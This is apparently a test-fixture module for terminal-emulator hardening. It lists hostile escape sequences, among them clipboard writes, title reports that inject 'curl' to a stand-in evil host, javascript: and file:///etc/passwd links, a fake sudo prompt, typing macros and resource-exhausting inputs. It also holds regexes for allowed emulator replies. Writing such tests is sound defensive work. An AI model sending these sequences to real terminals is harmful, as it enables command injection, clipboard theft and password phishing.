/** What a program prints in a terminal. None of it may be typed back in words of its own choice, or be more than looks. */
import { BEL, CSI8, ESC, EVIL, NUL, of, RLO, run } from "./evil.mjs";

const ST = `${ESC}\\`;
const base64 = (text) => Buffer.from(text).toString("base64");
const hex = (text) => Buffer.from(text).toString("hex");

export const BYTES = [
  ["a copy to the clipboard", (m) => `${ESC}]52;c;${base64(`evil ${m}`)}${BEL}`],
  ["a copy to every clipboard there is", (m) => `${ESC}]52;cpqs01234567;${base64(`evil\n${m}`)}${ST}`],
  ["a question for the clipboard", () => `${ESC}]52;c;?${BEL}`],
  ["a question for every clipboard", () => `${ESC}]52;cpqs;?${ST}${ESC}]52;;?${BEL}`],
  ["a copy that is no base64", (m) => `${ESC}]52;c;!evil ${m}!${BEL}`],
  ["a copy that is too long", () => `${ESC}]52;c;${base64("evil ".repeat(200_000))}${BEL}`],
  [
    "a copy from the clipboard by kitty",
    (m) => `${ESC}]5522;type=read;${base64("text/plain")}${ST}${ESC}]5522;type=write:mime=${m};evil${ST}`,
  ],
  ["a title", (m) => `${ESC}]0;evil ${m}${BEL}${ESC}]2;evil ${m}${BEL}${ESC}]1;evil${BEL}`],
  ["a title that is asked back", (m) => `${ESC}]2;evil; curl ${EVIL}/${m}${BEL}${ESC}[21t${ESC}[20t`],
  ["a title that is kept and brought back", (m) => `${ESC}]2;evil ${m}\n${BEL}${ESC}[22;0t${ESC}[23;0t${ESC}[21t`],
  ["a title of a tmux", (m) => `${ESC}kevil ${m}${ST}`],
  ["a title with a line's end in it", (m) => `${ESC}]2;evil\r\n${m}${BEL}`],
  ["a title that does not end", (m) => `${ESC}]2;evil ${m}${"x".repeat(100_000)}`],
  ["a link that runs", (m) => `${ESC}]8;;javascript:${run(m)}${ST}click-evil${ESC}]8;;${ST}`],
  ["a link to a file", () => `${ESC}]8;;file:///etc/passwd${ST}click-evil${ESC}]8;;${ST}`],
  ["a link to a document", (m) => `${ESC}]8;;data:text/html,<script>${run(m)}</script>${ST}click-evil${ESC}]8;;${ST}`],
  [
    "a link with a name before the host",
    () => `${ESC}]8;;https://localhost@evil.example/${ST}click-evil${ESC}]8;;${ST}`,
  ],
  ["a link that has an id with a line's end", (m) => `${ESC}]8;id=evil\r\n;${EVIL}/${m}${ST}x${ESC}]8;;${ST}`],
  ["an answerback", () => "\x05\x05\x05"],
  ["what terminal it is", () => `${ESC}[c${ESC}[0c${ESC}[>c${ESC}[>0c${ESC}[=c${ESC}Z${CSI8}c`],
  [
    "how it stands and where the cursor is",
    () => `${ESC}[5n${ESC}[6n${ESC}[?6n${ESC}[?15n${ESC}[?25n${ESC}[?26n${ESC}[?53n`,
  ],
  ["its version", () => `${ESC}[>q${ESC}[>0q`],
  ["its modes", () => `${ESC}[?2026$p${ESC}[4$p${ESC}[?2004$p${ESC}[?99999$p`],
  [
    "settings with a text in the question",
    (m) => `${ESC}P$qevil ${m}${ST}${ESC}P$q"p${ST}${ESC}P$qm${ST}${ESC}P$q r${ST}${ESC}P$qr\n${m}${ST}`,
  ],
  ["a capability with a text in the question", (m) => `${ESC}P+q${hex(`evil ${m}`)}${ST}${ESC}P+q544e${ST}`],
  ["resources of the window", (m) => `${ESC}P+Q${hex(m)}${ST}${ESC}]50;?${BEL}${ESC}]50;evil${BEL}`],
  ["sizes of the window", () => [11, 13, 14, 15, 16, 18, 19, 20, 21].map((what) => `${ESC}[${what}t`).join("")],
  [
    "another size of the window",
    () => `${ESC}[8;1;1t${ESC}[4;1;1t${ESC}[3;0;0t${ESC}[1t${ESC}[2t${ESC}[9;1t${ESC}[10;1t`,
  ],
  [
    "colours",
    () => `${ESC}]4;1;?${BEL}${ESC}]10;?${BEL}${ESC}]11;?${ST}${ESC}]12;?${BEL}${ESC}]4;999;?${BEL}${ESC}]13;?${BEL}`,
  ],
  [
    "a colour with a text in it",
    (m) => `${ESC}]4;1;rgb:evil/${m}/x${BEL}${ESC}]4;1;?${BEL}${ESC}]11;evil${BEL}${ESC}]11;?${BEL}`,
  ],
  ["keys of kitty", () => `${ESC}[?u${ESC}[>31u${ESC}[=31;1u${ESC}[?u`],
  ["keys of xterm", () => `${ESC}[>4;2m${ESC}[?4m`],
  [
    "graphics of kitty that answer",
    (m) => `${ESC}_Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA${ST}${ESC}_Ga=T,t=f;${base64(`/etc/${m}`)}${ST}`,
  ],
  ["a picture of iTerm", (m) => `${ESC}]1337;File=name=${base64(m)};inline=0:ZXZpbA==${BEL}`],
  [
    "what iTerm tells",
    () =>
      `${ESC}]1337;ReportCellSize${BEL}${ESC}]1337;ReportVariable=${base64("name")}${BEL}${ESC}]1337;RequestAttention=yes${BEL}${ESC}]1337;CopyToClipboard=${BEL}evil${ESC}]1337;EndCopy${BEL}`,
  ],
  [
    "a folder and a notice",
    (m) =>
      `${ESC}]7;file://evil/${m}${BEL}${ESC}]9;evil ${m}${BEL}${ESC}]777;notify;evil;${m}${BEL}${ESC}]99;;evil${ST}`,
  ],
  ["marks of a shell", (m) => `${ESC}]133;A${BEL}${ESC}]633;E;curl ${EVIL}/${m}${BEL}${ESC}]633;P;Cwd=evil${BEL}`],
  ["a sixel", () => `${ESC}Pq"1;1;9999;9999#0;2;0;0;0#0!9999~-${"!9999~-".repeat(200)}${ST}`],
  ["drawings of Tektronix and ReGIS", () => `${ESC}Pp S(E) evil ${ST}${ESC}[?38h`],
  ["keys of its own", (m) => `${ESC}P1;1|17/${hex(`evil ${m}\n`)}${ST}`],
  ["a macro that types", (m) => `${ESC}P1;0;1!z${hex(`${ESC}[6n${m}\n`)}${ST}${ESC}[1*z`],
  ["letters of its own", () => `${ESC}P0;1;1{ @~~~~~~${ST}${ESC}( @`],
  ["checksums of the screen", () => `${ESC}[1;1;1;1;24;80*y${ESC}[?62n`],
  ["parameters without an end", () => `${ESC}[${"9;".repeat(20_000)}9m${ESC}[99999999999999999999C${ESC}[2147483648X`],
  ["a repetition without an end", () => `x${ESC}[2147483647b${ESC}[2147483647L${ESC}[2147483647@`],
  ["a scroll region of nothing", () => `${ESC}[999;1r${ESC}[?6h${ESC}[?69h${ESC}[80;1s`],
  ["tabs and columns", () => `${ESC}[3g${ESC}[?3h${ESC}[?40h${ESC}#8`],
  ["a sequence that was not ended", () => `${ESC}P${"evil".repeat(10_000)}`],
  ["sequences within sequences", (m) => `${ESC}]2;${ESC}]52;c;${base64(m)}${BEL}${ESC}P$q${ESC}]2;evil${BEL}${ST}`],
  ["controls of eight bits", (m) => `${of(0x9d)}2;evil ${m}${of(0x9c)}${of(0x90)}$qm${of(0x9c)}${of(0x9b)}6n`],
  ["words of another encoding", () => `${ESC}%@${ESC}%G${ESC}(0evil${ESC}(B${of(0x0e)}evil${of(0x0f)}`],
  ["letters that turn around", (m) => `${m} ${RLO}live ${of(0x2067)} ${of(0xfeff, 0x200b)}`],
  ["HTML", (m) => `<img src=x onerror="${run(m)}"><script>${run(m)}</script>`],
  ["an address that runs", (m) => `javascript:${run(m)} ${EVIL}/${m} www.evil.example`],
  ["an address with a name before the host", () => "https://localhost@evil.example/x https://a:b@evil.example/"],
  ["bells", () => BEL.repeat(5_000)],
  ["nothings", () => NUL.repeat(50_000)],
  ["bytes that are no letters", () => Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xf4, 0x90, 0x80, 0x80])],
  ["all bytes there are", () => Buffer.from(Array.from({ length: 256 }, (_, at) => at))],
  ["the screen of another program", (m) => `${ESC}[?1049h${ESC}[2J${ESC}[H[sudo] password for ada: ${m}`],
  ["a cursor that is not seen", () => `${ESC}[?25l${ESC}[8m evil ${ESC}[0m`],
  ["marks piled on letters", () => `${`e${of(...Array.from({ length: 60 }, (_, at) => 0x300 + at))}`.repeat(200)}`],
];

/** What makes an emulator say more of its person's doing than the person types. */
export const MODES = `${ESC}[?1000h${ESC}[?1002h${ESC}[?1003h${ESC}[?1006h${ESC}[?1004h${ESC}[?1007h`;
/** What is pasted is told from what is typed. */
export const BRACKETED = `${ESC}[?2004h`;

/** What an emulator may say by itself. In none of it is a word of who asked, or a line's end. */
// biome-ignore-start lint/suspicious/noControlCharactersInRegex: they are what is said
const FORMS = [
  /^\x1b\[\?[\d;]+c/,
  /^\x1b\[>[\d;]+c/,
  /^\x1b\[\??\d+(;\d+)*[nR]/,
  /^\x1b\[\??\d+;\d\$y/,
  /^\x1bP[01]\$r[\d;:]*( ?[qprmst"]{0,2})\x1b\\/,
  /^\x1b\](4;\d{1,3}|1[0-2]);rgb:[\da-f]{4}\/[\da-f]{4}\/[\da-f]{4}(\x1b\\|\x07)/,
  /^\x1b\[\d+;\d+;\d+t/,
  /^\x1bP>\|xterm\.js\([\d.]+\)\x1b\\/,
  /^\x1b\[\?\d+u/,
  // What a person does with the mouse and the window.
  /^\x1b\[<\d+;\d+;\d+[Mm]/,
  /^\x1b\[[IO]/,
];
// biome-ignore-end lint/suspicious/noControlCharactersInRegex: they are what is said

/** What is left of what was said, without what an emulator may say. */
export function beyondForms(said) {
  let rest = said;
  for (;;) {
    const form = FORMS.find((form) => form.test(rest));
    if (form === undefined) return rest;
    rest = rest.replace(form, "");
  }
}
